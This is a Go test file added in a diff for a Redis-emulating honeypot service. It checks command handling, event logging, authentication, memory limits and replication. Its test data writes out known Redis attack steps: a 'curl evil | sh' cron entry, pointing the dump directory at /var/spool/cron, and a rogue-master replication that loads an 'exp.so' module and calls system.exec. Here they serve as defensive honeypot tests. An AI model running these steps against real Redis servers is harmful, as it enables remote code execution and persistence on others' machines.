@@ -0,0 +1,619 @@
+// Copyright 2016-2019 DutchSec (https://dutchsec.com/)
+//
+// Licensed under the Apache License, Version 2.0 (the "License");
+// you may not use this file except in compliance with the License.
+// You may obtain a copy of the License at
+//
+// http://www.apache.org/licenses/LICENSE-2.0
+//
+// Unless required by applicable law or agreed to in writing, software
+// distributed under the License is distributed on an "AS IS" BASIS,
+// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+// See the License for the specific language governing permissions and
+// limitations under the License.
+package redis
+
+import (
+	"bufio"
+	"context"
+	"fmt"
+	"io"
+	"io/ioutil"
+	"net"
+	"os"
+	"strconv"
+	"strings"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	"github.com/honeytrap/honeytrap/artifacts"
+	"github.com/honeytrap/honeytrap/event"
+	"github.com/honeytrap/honeytrap/pushers/pushertest"
+	"github.com/honeytrap/honeytrap/services"
+)
+
+func TestMain(m *testing.M) {
+	dir, err := ioutil.TempDir("", "redis")
+	if err != nil {
+		panic(err)
+	}
+
+	store, err := artifacts.New(artifacts.WithDataDir(dir))
+	if err != nil {
+		panic(err)
+	}
+
+	artifacts.SetDefault(store)
+
+	code := m.Run()
+
+	os.RemoveAll(dir)
+	os.Exit(code)
+}
+
+func newService(options ...services.ServicerFunc) (*redisService, *pushertest.Channel) {
+	s := REDIS(options...).(*redisService)
+
+	c := &pushertest.Channel{}
+	s.SetChannel(c)
+
+	return s, c
+}
+
+type client struct {
+	net.Conn
+	r *bufio.Reader
+}
+
+func connect(s *redisService) *client {
+	server, conn := net.Pipe()
+	go s.Handle(context.TODO(), server)
+
+	return &client{Conn: conn, r: bufio.NewReader(conn)}
+}
+
+// reply reads a raw reply.
+func (c *client) reply(t *testing.T) string {
+	line, err := c.r.ReadString('\n')
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	switch line[0] {
+	case '$':
+		n, _ := strconv.Atoi(line[1 : len(line)-2])
+		if n < 0 {
+			return line
+		}
+
+		buf := make([]byte, n+2)
+		if _, err := io.ReadFull(c.r, buf); err != nil {
+			t.Fatal(err)
+		}
+
+		return line + string(buf)
+	case '*':
+		n, _ := strconv.Atoi(line[1 : len(line)-2])
+		for i := 0; i < n; i++ {
+			line += c.reply(t)
+		}
+	}
+
+	return line
+}
+
+// do sends a command and returns the raw reply.
+func (c *client) do(t *testing.T, args ...string) string {
+	if _, err := c.Write([]byte(bulkStrings(args))); err != nil {
+		t.Fatal(err)
+	}
+
+	return c.reply(t)
+}
+
+func TestCommands(t *testing.T) {
+	s, _ := newService()
+
+	c := connect(s)
+	defer c.Close()
+
+	tests := []struct {
+		args     []string
+		expected string
+	}{
+		{[]string{"PING"}, "+PONG\r\n"},
+		{[]string{"SET", "x", "*/1 * * * * curl evil | sh"}, "+OK\r\n"},
+		{[]string{"GET", "x"}, "$26\r\n*/1 * * * * curl evil | sh\r\n"},
+		{[]string{"SET", "x", "y", "NX"}, "$-1\r\n"},
+		{[]string{"TYPE", "x"}, "+string\r\n"},
+		{[]string{"INCR", "counter"}, ":1\r\n"},
+		{[]string{"INCRBY", "counter", "41"}, ":42\r\n"},
+		{[]string{"INCR", "x"}, "-ERR value is not an integer or out of range\r\n"},
+		{[]string{"RPUSH", "list", "a", "b"}, ":2\r\n"},
+		{[]string{"LPUSH", "list", "c", "d"}, ":4\r\n"},
+		{[]string{"LRANGE", "list", "0", "-1"}, "*4\r\n$1\r\nd\r\n$1\r\nc\r\n$1\r\na\r\n$1\r\nb\r\n"},
+		{[]string{"GET", "list"}, "-WRONGTYPE Operation against a key holding the wrong kind of value\r\n"},
+		{[]string{"HSET", "hash", "f1", "v1", "f2", "v2"}, ":2\r\n"},
+		{[]string{"HGETALL", "hash"}, "*4\r\n$2\r\nf1\r\n$2\r\nv1\r\n$2\r\nf2\r\n$2\r\nv2\r\n"},
+		{[]string{"SADD", "set", "m", "m", "n"}, ":2\r\n"},
+		{[]string{"SMEMBERS", "set"}, "*2\r\n$1\r\nm\r\n$1\r\nn\r\n"},
+		{[]string{"KEYS", "*"}, "*5\r\n$7\r\ncounter\r\n$4\r\nhash\r\n$4\r\nlist\r\n$3\r\nset\r\n$1\r\nx\r\n"},
+		{[]string{"KEYS", "[hl]*"}, "*2\r\n$4\r\nhash\r\n$4\r\nlist\r\n"},
+		{[]string{"SCAN", "0", "COUNT", "3"}, "*2\r\n$1\r\n3\r\n*3\r\n$7\r\ncounter\r\n$4\r\nhash\r\n$4\r\nlist\r\n"},
+		{[]string{"SCAN", "3", "TYPE", "set"}, "*2\r\n$1\r\n0\r\n*1\r\n$3\r\nset\r\n"},
+		{[]string{"EXPIRE", "x", "100"}, ":1\r\n"},
+		{[]string{"TTL", "x"}, ":100\r\n"},
+		{[]string{"TTL", "missing"}, ":-2\r\n"},
+		{[]string{"SELECT", "1"}, "+OK\r\n"},
+		{[]string{"DBSIZE"}, ":0\r\n"},
+		{[]string{"SELECT", "16"}, "-ERR DB index is out of range\r\n"},
+		{[]string{"SELECT", "0"}, "+OK\r\n"},
+		{[]string{"DBSIZE"}, ":5\r\n"},
+		{[]string{"CONFIG", "SET", "dir", "/var/spool/cron"}, "+OK\r\n"},
+		{[]string{"CONFIG", "GET", "dir"}, "*2\r\n$3\r\ndir\r\n$15\r\n/var/spool/cron\r\n"},
+		{[]string{"CONFIG", "SET", "foo", "bar"}, "-ERR Unsupported CONFIG parameter: foo\r\n"},
+		{[]string{"CLIENT", "SETNAME", "worm"}, "+OK\r\n"},
+		{[]string{"CLIENT", "GETNAME"}, "$4\r\nworm\r\n"},
+		{[]string{"AUTH", "secret"}, "-ERR Client sent AUTH, but no password is set\r\n"},
+		{[]string{"SAVE"}, "+OK\r\n"},
+		{[]string{"FLUSHALL"}, "+OK\r\n"},
+		{[]string{"DBSIZE"}, ":0\r\n"},
+		{[]string{"GET"}, "-ERR wrong number of arguments for 'get' command\r\n"},
+		{[]string{"FOO"}, "-ERR unknown command 'foo'\r\n"},
+	}
+
+	for _, tst := range tests {
+		if got := c.do(t, tst.args...); got != tst.expected {
+			t.Errorf("%v: expected %q, got %q", tst.args, tst.expected, got)
+		}
+	}
+
+	// inline commands, as sent with telnet
+	if _, err := c.Write([]byte("ECHO hello\r\n")); err != nil {
+		t.Fatal(err)
+	}
+
+	if got := c.reply(t); got != "$5\r\nhello\r\n" {
+		t.Errorf("Expected inline echo, got %q", got)
+	}
+}
+
+func TestCommandEvents(t *testing.T) {
+	s, ch := newService()
+
+	c := connect(s)
+	defer c.Close()
+
+	c.do(t, "CONFIG", "SET", "dbfilename", "root")
+	c.do(t, "SET", "x", "\n*/1 * * * * id\n")
+	c.do(t, "SAVE")
+
+	events := ch.Find("redis-command")
+	if len(events) != 3 {
+		t.Fatalf("Expected 3 events, got %d", len(events))
+	}
+
+	if events[0].Get("redis.command") != "CONFIG" {
+		t.Errorf("Expected command CONFIG, got %s", events[0].Get("redis.command"))
+	}
+
+	if args, _ := events[0].Load("redis.args"); fmt.Sprint(args) != "[SET dbfilename root]" {
+		t.Errorf("Unexpected arguments %v", args)
+	}
+
+	if events[2].Get("redis.filename") != "/data/root" {
+		t.Errorf("Expected dump /data/root, got %q", events[2].Get("redis.filename"))
+	}
+
+	sha256 := events[2].Get("redis.sha256")
+
+	a, err := artifacts.Default().Get(sha256)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	f, err := artifacts.Default().Open(a.SHA256)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	defer f.Close()
+
+	data, _ := ioutil.ReadAll(f)
+	if expected := "REDIS0008\nx\n\n*/1 * * * * id\n\n"; string(data) != expected {
+		t.Errorf("Expected dump %q, got %q", expected, data)
+	}
+}
+
+func TestAuth(t *testing.T) {
+	s, ch := newService()
+	s.Password = "secret"
+
+	c := connect(s)
+	defer c.Close()
+
+	tests := []struct {
+		args     []string
+		expected string
+	}{
+		{[]string{"KEYS", "*"}, "-NOAUTH Authentication required.\r\n"},
+		{[]string{"AUTH", "guess"}, "-ERR invalid password\r\n"},
+		{[]string{"AUTH", "secret"}, "+OK\r\n"},
+		{[]string{"KEYS", "*"}, "*0\r\n"},
+	}
+
+	for _, tst := range tests {
+		if got := c.do(t, tst.args...); got != tst.expected {
+			t.Errorf("%v: expected %q, got %q", tst.args, tst.expected, got)
+		}
+	}
+
+	events := ch.Find("redis-command")
+	if len(events) != 4 {
+		t.Fatalf("Expected 4 events, got %d", len(events))
+	}
+
+	if events[1].Get("redis.password") != "guess" {
+		t.Errorf("Expected password guess, got %q", events[1].Get("redis.password"))
+	}
+
+	if v, _ := events[2].Load("redis.authenticated"); v != true {
+		t.Errorf("Expected authenticated, got %v", v)
+	}
+}
+
+func TestPersist(t *testing.T) {
+	s, _ := newService()
+
+	c := connect(s)
+	c.do(t, "SET", "x", "y")
+	c.Close()
+
+	c = connect(s)
+	if got := c.do(t, "GET", "x"); got != "$-1\r\n" {
+		t.Errorf("Expected a new keyspace, got %q", got)
+	}
+	c.Close()
+
+	s.Persist = true
+
+	c = connect(s)
+	c.do(t, "SET", "x", "y")
+	c.Close()
+
+	c = connect(s)
+	if got := c.do(t, "GET", "x"); got != "$1\r\ny\r\n" {
+		t.Errorf("Expected a persisted keyspace, got %q", got)
+	}
+	c.Close()
+}
+
+// master is a rogue master, sending payload on a full resync.
+func master(t *testing.T, payload string) (net.Listener, chan []string) {
+	l, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	commands := make(chan []string, 10)
+
+	go func() {
+		conn, err := l.Accept()
+		if err != nil {
+			return
+		}
+
+		defer conn.Close()
+
+		r := bufio.NewReader(conn)
+		for {
+			budget := int64(maxBulkLength)
+			datum, err := parseRedisData(r, &budget)
+			if err != nil {
+				return
+			}
+
+			args := []string{}
+			for _, item := range datum.Content.([]interface{}) {
+				d := item.(redisDatum)
+				arg, _ := d.ToString()
+				args = append(args, arg)
+			}
+
+			commands <- args
+
+			switch args[0] {
+			case "PSYNC":
+				fmt.Fprintf(conn, "+FULLRESYNC 8de1787ba490483314a4d30f1c628bc5025eb761 1\r\n\n$%d\r\n%s", len(payload), payload)
+			default:
+				fmt.Fprintf(conn, "+OK\r\n")
+			}
+		}
+	}()
+
+	return l, commands
+}
+
+func replicate(s services.Servicer) error {
+	s.(*redisService).Replicate = true
+	return nil
+}
+
+func TestReplication(t *testing.T) {
+	dial = (&net.Dialer{}).DialContext
+	defer func() {
+		dial = artifacts.Dialer.DialContext
+	}()
+
+	payload := "\x7fELF module"
+
+	l, commands := master(t, payload)
+	defer l.Close()
+
+	s, ch := newService(replicate)
+
+	c := connect(s)
+	defer c.Close()
+
+	host, port, _ := net.SplitHostPort(l.Addr().String())
+
+	c.do(t, "CONFIG", "SET", "dbfilename", "exp.so")
+
+	if got := c.do(t, "SLAVEOF", host, port); got != "+OK\r\n" {
+		t.Fatalf("Expected OK, got %q", got)
+	}
+
+	for _, expected := range []string{"PING", "REPLCONF", "REPLCONF", "PSYNC"} {
+		select {
+		case args := <-commands:
+			if args[0] != expected {
+				t.Errorf("Expected %s, got %v", expected, args)
+			}
+		case <-time.After(5 * time.Second):
+			t.Fatalf("Timeout waiting for %s", expected)
+		}
+	}
+
+	var events []event.Event
+	for i := 0; i < 50 && len(events) == 0; i++ {
+		time.Sleep(10 * time.Millisecond)
+		events = ch.Find("redis-replication")
+	}
+
+	if len(events) != 1 {
+		t.Fatalf("Expected replication event, got %d", len(events))
+	}
+
+	e := events[0]
+	if e.Get("redis.master") != l.Addr().String() {
+		t.Errorf("Expected master %s, got %s", l.Addr().String(), e.Get("redis.master"))
+	}
+
+	if e.Get("redis.replid") != "8de1787ba490483314a4d30f1c628bc5025eb761" {
+		t.Errorf("Unexpected replication id %s", e.Get("redis.replid"))
+	}
+
+	if got := c.do(t, "ROLE"); got != fmt.Sprintf("*5\r\n$5\r\nslave\r\n$%d\r\n%s\r\n:%s\r\n$9\r\nconnected\r\n:0\r\n", len(host), host, port) {
+		t.Errorf("Unexpected role %q", got)
+	}
+
+	if got := c.do(t, "MODULE", "LOAD", "./exp.so"); got != "+OK\r\n" {
+		t.Errorf("Expected OK, got %q", got)
+	}
+
+	if got := c.do(t, "system.exec", "id"); got != "$0\r\n\r\n" {
+		t.Errorf("Expected module command, got %q", got)
+	}
+
+	commandEvents := ch.Find("redis-command")
+	load := commandEvents[len(commandEvents)-2]
+
+	if load.Get("redis.module-sha256") != e.Get("redis.sha256") {
+		t.Errorf("Expected module %s, got %q", e.Get("redis.sha256"), load.Get("redis.module-sha256"))
+	}
+}
+
+func TestReplicationForbidden(t *testing.T) {
+	s, ch := newService(replicate)
+
+	c := connect(s)
+	defer c.Close()
+
+	c.do(t, "SLAVEOF", "127.0.0.1", "6379")
+
+	var events []event.Event
+	for i := 0; i < 50 && len(events) == 0; i++ {
+		time.Sleep(10 * time.Millisecond)
+		events = ch.Find("redis-replication")
+	}
+
+	if len(events) != 1 {
+		t.Fatalf("Expected replication event, got %d", len(events))
+	}
+
+	if events[0].Get("redis.error") == "" {
+		t.Errorf("Expected replication to loopback to be refused")
+	}
+}
+
+func TestReplicationDisabled(t *testing.T) {
+	dial = (&net.Dialer{}).DialContext
+	defer func() {
+		dial = artifacts.Dialer.DialContext
+	}()
+
+	l, commands := master(t, "payload")
+	defer l.Close()
+
+	s, ch := newService()
+
+	c := connect(s)
+	defer c.Close()
+
+	host, port, _ := net.SplitHostPort(l.Addr().String())
+
+	if got := c.do(t, "SLAVEOF", host, port); got != "+OK\r\n" {
+		t.Fatalf("Expected OK, got %q", got)
+	}
+
+	select {
+	case args := <-commands:
+		t.Errorf("Expected no replication, got %v", args)
+	case <-time.After(100 * time.Millisecond):
+	}
+
+	if len(ch.Find("redis-replication")) != 0 {
+		t.Errorf("Expected no replication event")
+	}
+}
+
+func TestReplicationSingle(t *testing.T) {
+	// the master doesn't reply, so the replication keeps running
+	dials := make(chan net.Conn, 10)
+
+	dial = func(ctx context.Context, network, addr string) (net.Conn, error) {
+		clt, srv := net.Pipe()
+		dials <- srv
+		return clt, nil
+	}
+	defer func() {
+		dial = artifacts.Dialer.DialContext
+	}()
+
+	s, _ := newService(replicate)
+
+	c := connect(s)
+	defer c.Close()
+
+	c.do(t, "SLAVEOF", "192.0.2.1", "6379")
+
+	var srv net.Conn
+	select {
+	case srv = <-dials:
+	case <-time.After(5 * time.Second):
+		t.Fatalf("Expected replication")
+	}
+
+	// a second replication isn't started while the first runs
+	c.do(t, "SLAVEOF", "192.0.2.2", "6379")
+
+	select {
+	case <-dials:
+		t.Errorf("Expected a single replication")
+	case <-time.After(100 * time.Millisecond):
+	}
+
+	srv.Close()
+
+	if got := c.do(t, "ROLE"); !strings.Contains(got, "192.0.2.2") {
+		t.Errorf("Expected master to be set, got %q", got)
+	}
+}
+
+func TestMaxMemoryArgs(t *testing.T) {
+	s, _ := newService(func(s services.Servicer) error {
+		s.(*redisService).MaxMemory = 128 * 1024
+		return nil
+	})
+
+	c := connect(s)
+	defer c.Close()
+
+	// the argument is refused before the data has been sent
+	if _, err := fmt.Fprintf(c, "*3\r\n$3\r\nSET\r\n$1\r\nk\r\n$%d\r\n", 256*1024); err != nil {
+		t.Fatal(err)
+	}
+
+	if got := c.reply(t); got != "-ERR Protocol error: invalid bulk length\r\n" {
+		t.Errorf("Expected protocol error, got %q", got)
+	}
+}
+
+func TestMaxMemoryCommands(t *testing.T) {
+	s, _ := newService(func(s services.Servicer) error {
+		s.(*redisService).MaxMemory = 32
+		return nil
+	})
+
+	c := connect(s)
+	defer c.Close()
+
+	for _, args := range [][]string{
+		{"SET", "key", "value"},
+		{"INCRBY", "counter", "1000"},
+		{"RENAME", "counter", "total"},
+	} {
+		if got := c.do(t, args...); strings.HasPrefix(got, "-") {
+			t.Errorf("%s: unexpected error %q", args[0], got)
+		}
+	}
+
+	for _, args := range [][]string{
+		{"INCR", "total"},
+		{"CONFIG", "SET", "dir", "/tmp"},
+	} {
+		if got := c.do(t, args...); got != errorMsg("oom") {
+			t.Errorf("%s: expected out of memory error, got %q", args[0], got)
+		}
+	}
+}
+
+func TestMaxTotalMemory(t *testing.T) {
+	s, _ := newService(func(s services.Servicer) error {
+		s.(*redisService).MaxTotalMemory = 16
+		return nil
+	})
+
+	c1 := connect(s)
+	c2 := connect(s)
+	defer c2.Close()
+
+	if got := c1.do(t, "SET", "k", "0123456789"); got != "+OK\r\n" {
+		t.Fatalf("Expected OK, got %q", got)
+	}
+
+	if got := c2.do(t, "SET", "k", "0123456789"); got != errorMsg("oom") {
+		t.Fatalf("Expected out of memory error, got %q", got)
+	}
+
+	// the memory of a keyspace is freed when the connection closes
+	c1.Close()
+
+	for i := 0; atomic.LoadInt64(&s.used) != 0; i++ {
+		if i == 100 {
+			t.Fatalf("Expected memory to be freed, %d bytes used", atomic.LoadInt64(&s.used))
+		}
+
+		time.Sleep(10 * time.Millisecond)
+	}
+
+	if got := c2.do(t, "SET", "k", "0123456789"); got != "+OK\r\n" {
+		t.Errorf("Expected OK, got %q", got)
+	}
+}
+
+func TestMatch(t *testing.T) {
+	tests := []struct {
+		pattern string
+		s       string
+		match   bool
+	}{
+		{"*", "anything", true},
+		{"h?llo", "hello", true},
+		{"h?llo", "hllo", false},
+		{"h*llo", "heeeello", true},
+		{"h[ae]llo", "hallo", true},
+		{"h[^e]llo", "hello", false},
+		{"h[a-b]llo", "hbllo", true},
+		{"h\\*llo", "h*llo", true},
+		{"h\\*llo", "hello", false},
+		{"*a*a*a*a*a*a*a*a*b", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", false},
+	}
+
+	for _, tst := range tests {
+		if got := match(tst.pattern, tst.s); got != tst.match {
+			t.Errorf("match(%q, %q): expected %t, got %t", tst.pattern, tst.s, tst.match, got)
+		}
+	}
+}